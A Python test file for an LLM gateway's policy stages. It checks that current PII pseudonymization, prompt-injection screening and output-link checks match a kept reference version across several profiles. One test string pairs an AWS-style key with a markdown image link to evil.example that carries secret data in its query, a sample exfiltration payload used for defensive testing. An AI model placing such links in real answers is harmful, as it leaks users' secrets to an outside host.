"""The two policy stages give the same results as their form at the fourteenth session's start, kept here
as the reference (Counter counts, the walk of three generators): over dev corpus rows and injection dev
rows, for every built-in profile, injection `block`/`allow`/`off`, output links `mask`/`block`, plain and
streamed answers, the same body goes upstream, the same answer comes back, the same counts are recorded
and remembered (`call.prepared`), and the same requests are blocked with the same message."""

from __future__ import annotations

import json
import time
from collections import Counter
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from shared.errors import PolicyViolation
from shared.pipeline import Call, Handler, Outcome, Pipeline, PreparedInput
from shared.policy.body import TextSlot, map_response, map_stream, stored_texts
from shared.policy.engine import PolicyEngine
from shared.policy.profiles import PolicySettings, Profile
from shared.policy.pseudonymize import Pseudonymizer
from shared.policy.stages import INJECTION, OutputCheckStage, OutputStream, PolicyStage, blocked
from shared.providers.base import GeminiBody
from shared.tenants import Tenant
from tests.fakes import answer
from tests.unit.test_request_walk_identity import reference_request_parts

ENGINE = PolicyEngine()
POLICY = Path(__file__).resolve().parents[2] / "bench" / "policy"


def _rows(name: str, count: int) -> list[str]:
    lines = (POLICY / name).read_text().splitlines()
    return [str(json.loads(line)["text"]) for line in lines[:count]]


# dev sets only (never bench/policy/blind-*): PII and secrets, and injection attempts with benign prompts
TEXTS = (
    _rows("corpus.jsonl", 60)
    + _rows("injection_dev.jsonl", 30)
    + [
        "plain question without anything to find",
        "key AKIA44KRQTEM63TS66BH and ![x](https://evil.example/p?d=secret-data-here) and [EMAIL_3]",
    ]
)


def _record(call: Call, counts: Counter[str]) -> None:
    if counts:
        merged = call.attrs.setdefault("policy", {})
        for key, value in counts.items():
            merged[key] = merged.get(key, 0) + value


class ReferencePolicyStage:
    """`PolicyStage` at the session's start, without the remote recognizer and the thread offload."""

    async def __call__(self, call: Call, next_handler: Handler) -> Outcome:
        settings: PolicySettings = call.tenant.policy
        pseudonyms = Pseudonymizer()
        counts: Counter[str] = Counter()
        try:
            parts = [*reference_request_parts(call.body), *stored_texts(call.stored)]
            self._prepare(parts, settings, pseudonyms, counts)
        finally:
            _record(call, counts)
        call.prepared = PreparedInput(pseudonyms if pseudonyms else None, dict(counts))
        outcome = await next_handler(call)
        if not pseudonyms:
            return outcome
        if outcome.response is not None:
            outcome.response = map_response(outcome.response, pseudonyms.restore)
        if outcome.chunks is not None:
            outcome.chunks = map_stream(outcome.chunks, pseudonyms.stream, pseudonyms.restore)
        return outcome

    def _prepare(
        self,
        parts: list[tuple[str, TextSlot]],
        settings: PolicySettings,
        pseudonyms: Pseudonymizer,
        counts: Counter[str],
    ) -> None:
        profile = settings.resolved
        if settings.injection_action != "off":
            texts = (part.text for role, part in parts if role == "user")
            score = max((ENGINE.screen(text, settings.allowed_hosts).score for text in texts), default=0.0)
            if score >= settings.injection_threshold:
                counts[f"{INJECTION}:{settings.injection_action}"] += 1
                if settings.injection_action == "block":
                    raise blocked(profile.name, INJECTION)
        if profile.inactive:
            return
        for _, part in parts:
            pseudonyms.reserve(part.text)
        for _, part in parts:
            result = ENGINE.redact(
                part.text, profile, pseudonyms, counts, (), regions=settings.phone_regions, recognizer=False
            )
            if result.blocked is not None:
                raise blocked(profile.name, result.blocked.type)
            part.write(result.text)


def _reference_check(text: str, profile: Profile, counts: Counter[str], links: Any) -> str:
    local: Counter[str] = Counter()
    result = ENGINE.check_output(text, profile, local, links, False)
    for key, value in local.items():
        counts[f"output:{key}"] += value
    if result.blocked is not None:
        raise blocked(profile.name, result.blocked.type, where="model's answer")
    return result.text


class ReferenceOutputCheckStage:
    async def __call__(self, call: Call, next_handler: Handler) -> Outcome:
        outcome = await next_handler(call)
        settings: PolicySettings = call.tenant.policy
        profile = settings.resolved
        if not profile.output_types or call.operation != "generate":
            return outcome
        links = None if settings.output_links == "allow" else (settings.output_links, settings.allowed_hosts)
        counts: Counter[str] = Counter()
        if outcome.response is not None:
            try:
                outcome.response = map_response(
                    outcome.response, lambda text: _reference_check(text, profile, counts, links)
                )
            finally:
                _record(call, counts)
        if outcome.chunks is not None:
            outcome.chunks = map_stream(
                outcome.chunks,
                lambda: OutputStream(ENGINE, profile, counts, links),  # type: ignore[arg-type]
                lambda text: _reference_check(text, profile, counts, links),
                done=lambda: _record(call, counts),
            )
        return outcome


class Echo:
    """Answers with every text it was sent, in 5-character chunks when streaming; records the body."""

    def __init__(self) -> None:
        self.seen: list[bytes] = []

    async def __call__(self, call: Call) -> Outcome:
        self.seen.append(orjson.dumps(call.body))
        text = "Echo: " + " | ".join(part.text for _, part in reference_request_parts(call.body))
        if not call.stream:
            return Outcome(response=answer(text))
        return Outcome(chunks=self._chunks(text))

    async def _chunks(self, text: str) -> AsyncIterator[GeminiBody]:
        pieces = [text[i : i + 5] for i in range(0, len(text), 5)] or [""]
        for i, piece in enumerate(pieces):
            yield answer(piece, finish="STOP" if i == len(pieces) - 1 else None)


async def _run(stages: list[Any], tenant: Tenant, text: str, stream: bool) -> tuple[Any, ...]:
    upstream = Echo()
    body = {
        "contents": [{"role": "user", "parts": [{"text": text}]}],
        "systemInstruction": {"parts": [{"text": "Reply briefly."}]},
    }
    call = Call("r1", tenant, "gemini", "gemini-2.5-flash", body, stream, time.monotonic() + 30)
    try:
        outcome = await Pipeline(stages, upstream).run(call)
        if outcome.chunks is not None:
            result: Any = [orjson.dumps(chunk) async for chunk in outcome.chunks]
        else:
            result = orjson.dumps(outcome.response)
    except PolicyViolation as error:
        result = ("blocked", error.message, error.details())
    prepared = call.prepared
    remembered = None
    if prepared is not None:
        restorer = prepared.restorer
        restored = restorer.restore("[EMAIL_1] [PERSON_1] [SECRET_1]") if restorer else None
        remembered = (restored, prepared.counts)
    return result, upstream.seen, call.attrs.get("policy"), remembered


SETTINGS = [
    {"profile": "standard"},
    {"profile": "strict"},
    {"profile": "off"},
    {"profile": "standard", "injection_action": "allow", "output_links": "block"},
    {"profile": "strict", "injection_action": "off", "output_links": "allow"},
    {"profile": {"base": "standard", "actions": {"EMAIL": "mask"}, "output": {"PERSON": "mask"}}},
]


@pytest.mark.parametrize("policy", SETTINGS, ids=lambda p: str(p)[:60])
@pytest.mark.parametrize("stream", [False, True])
async def test_the_stages_match_their_earlier_form(policy: dict[str, Any], stream: bool) -> None:
    tenant = Tenant.model_validate({"id": "acme", "policy": policy})
    outcomes: Counter[str] = Counter()
    for text in TEXTS:
        new = await _run([PolicyStage(ENGINE), OutputCheckStage(ENGINE)], tenant, text, stream)
        old = await _run([ReferencePolicyStage(), ReferenceOutputCheckStage()], tenant, text, stream)
        assert new == old, text
        outcomes["blocked" if isinstance(new[0], tuple) else "counted" if new[2] else "clean"] += 1
    if policy["profile"] != "off":
        assert outcomes["counted"] > 10, outcomes  # the rows do exercise the counts
